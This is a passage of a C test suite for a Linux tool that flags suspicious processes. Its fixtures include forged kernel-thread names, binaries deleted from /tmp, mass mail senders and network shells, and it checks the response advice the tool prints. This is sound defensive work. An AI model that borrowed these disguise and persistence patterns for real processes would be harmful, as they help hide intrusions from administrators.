        {BASH, "sh +x x.sh", "x.sh", "", false},
        {"/usr/bin/zsh", "zsh -c ls", "", "ls", false},
        /* what a program forged may be forged as a whole */
        {PERL, "/usr/sbin/httpd -k start", "", "", false},
        {PERL, "", "", "", false},
        {"/usr/sbin/nginx", "perl b.pl", "", "", false},
    };

    for (size_t i = 0; i < COUNT(rows); i++) {
        char data[512];
        struct str cmdline = make_cmdline(rows[i].cmdline, data);
        struct process_program program;

        for (size_t j = 0; j < cmdline.len; j++)
            data[j] = data[j] == ' ' ? '^' : data[j];
        program = process_program_read(str_from_cstr(rows[i].exe), cmdline);
        CHECK_STR(program.script, rows[i].script);
        CHECK_STR(program.code, rows[i].code);
        CHECK_ROW(i, program.is_module == rows[i].is_module);
    }
    CHECK(process_is_script_path(STR(BASH), STR("/a/b.sh")));
    CHECK(process_is_script_path(STR("/usr/bin/php8.2"), STR("/a/b.php")));
    CHECK(!process_is_script_path(STR("/usr/bin/vim"), STR("/a/b.php")));
    CHECK(!process_is_script_path(STR(BASH), STR("/a/b.log")));
    CHECK(!process_is_script_path(STR(BASH), STR("socket:[7].sh")));
}

/* One family of signs never accuses, however many there are; every sign alone is a remark. */
static void
weighs_families(void)
{
    for (int i = 0; i < SIGN_COUNT; i++) {
        const struct sign_facts *facts = sign_facts((enum process_sign)i);
        sign_set family = 0;

        CHECK(facts->rule && facts->why && facts->weight > 0 && facts->weight < FINDING_ACCUSES);
        CHECK(sign_confidence(SIGN_BIT(i)) < FINDING_ACCUSES);
        for (int j = 0; j < SIGN_COUNT; j++) {
            if (strcmp(facts->family, sign_facts((enum process_sign)j)->family) == 0)
                family |= SIGN_BIT(j);
            CHECK(i == j || strcmp(facts->rule, sign_facts((enum process_sign)j)->rule) != 0);
        }
        CHECK(sign_confidence(family) < FINDING_ACCUSES);
    }
    CHECK(sign_confidence(0) <= 0);
    CHECK(sign_confidence(S(MAIL_MANY) | S(WEB_ADRIFT)) >= FINDING_ACCUSES);
}

/* What an administrator reads and types. */
static void
says_what_to_do(void)
{
    static const struct row row = {
        "/tmp/.x/a", "./a --go", "", "",     "/system.slice/cron.service", PID_CRON, WWW,
        "d",         MANY_25,    0,  ACCUSED};
    struct arena *arena = arena_new((size_t)1 << 20);
    sign_set signs;
    const struct findings *findings = judge(&row, arena, &signs);

    CHECK(findings->count == 1);
    if (findings->count == 1) {
        CHECK_STR(findings->list[0].text, "./a --go");
        CHECK_STR(findings->list[0].why,
                  "Process 4711 of www-data, running since 2026-11-25T09:46:40Z, runs a program "
                  "that was deleted from a temporary folder; talks to the mail servers of many "
                  "recipients, past this host's own. Network: tries 203.0.113.5:25, connected to "
                  "198.51.100.7:25, connected to [2001:db8::7]:25. Started by cron (cron.service): "
                  "systemd[1] > cron[500] > a[4711].");
        CHECK_STR(findings->list[0].advice,
                  "Halt it without losing it, keep what it is, then find what starts it:\n"
                  "kill -STOP 4711\n"
                  "ls -l /proc/4711/exe /proc/4711/cwd /proc/4711/fd\n"
                  "cp /proc/4711/exe /root/process-4711.exe\n"
                  "ss -tnap | grep 'pid=4711,'\n"
                  "crontab -u www-data -l\n"
                  "grep -r . /etc/crontab /etc/cron.d\n"
                  "kill -KILL 4711");
    }
    arena_free(arena);
}

/* Forty workers of one program are one finding; the gravest comes first. */
static void
makes_one_of_what_is_alike(void)
{
    enum {
        WORKERS = 40
    };
    struct process list[WORKERS + 2];
    struct process_snapshot snapshot = {list, COUNT(list), NULL, 0, NULL};
    struct arena *arena = arena_new((size_t)1 << 20);
    struct findings *findings = ARENA_NEW(arena, struct findings);

    findings->arena = arena;
    for (int i = 0; i < WORKERS; i++)
        list[i] = host_process(10 + i, 1, "/tmp/x", false);
    list[WORKERS] = host_process(60, 1, "/tmp/x", false);
    list[WORKERS].uid = WWW;
    list[WORKERS + 1] = host_process(61, 1, "/dev/shm/x", false);
    list[WORKERS + 1].is_exe_deleted = true;
    process_judge(&snapshot, findings);
    CHECK(findings->count == 3 && findings->lost == 0);
    CHECK_STR(findings->list[0].path, "/dev/shm/x");
    CHECK(str_has(findings->list[1].why, STR("Alike: processes 11, 12, 13, 14, 15, 16, 17, 18, 19, "
                                             "20 and 29 more.")));
    CHECK(!str_has(findings->list[2].why, STR("Alike")));
    arena_free(arena);
}

/* A thousand remarks do not push an accusation out. */
static void
keeps_the_gravest(void)
{
    enum {
        REMARKS = 1000
    };
    static struct process list[REMARKS + 1];
    static char names[REMARKS][16];
    struct process_snapshot snapshot = {list, COUNT(list), NULL, 0, NULL};
    struct arena *arena = arena_new((size_t)4 << 20);
    struct findings *findings = ARENA_NEW(arena, struct findings);

    findings->arena = arena;
    for (int i = 0; i < REMARKS; i++) {
        (void)snprintf(names[i], sizeof(names[i]), "/tmp/%d", i);
        list[i] = host_process(10 + i, 1, names[i], false);
    }
    list[REMARKS] = host_process(10 + REMARKS, 1, "/dev/shm/x", false);
    list[REMARKS].cmdline = STR("[kworker/0:1]");
    process_judge(&snapshot, findings);
    CHECK(findings->count == FINDINGS_MAX && findings->lost == REMARKS + 1 - FINDINGS_MAX);
    CHECK_STR(findings->list[0].path, "/dev/shm/x");
    CHECK(findings->list[0].confidence >= FINDING_ACCUSES);
    arena_free(arena);
}

/* Runs after the rows. */
static void
has_a_row_for_each_sign(void)
{
    for (int i = 0; i < SIGN_COUNT; i++)
        CHECK_ROW(i, (seen & SIGN_BIT(i)) != 0);
}

int
main(void)
{
    static const struct tap_case cases[] = {
        {"knows forged names", knows_forged_names},
        {"knows suspicious files", knows_suspicious_files},
        {"knows who sends mail", knows_who_sends_mail},
        {"knows shells on the network", knows_shells_on_the_network},
        {"knows tunnels and proxies", knows_tunnels_and_proxies},
        {"has a row for each sign", has_a_row_for_each_sign},
        {"knows how things start", knows_how_things_start},
        {"reads what interpreters run", reads_what_interpreters_run},
        {"weighs families of signs", weighs_families},
        {"says what to do", says_what_to_do},
        {"makes one of what is alike", makes_one_of_what_is_alike},
        {"keeps the gravest", keeps_the_gravest},
    };

    return tap_main(cases, COUNT(cases));
}
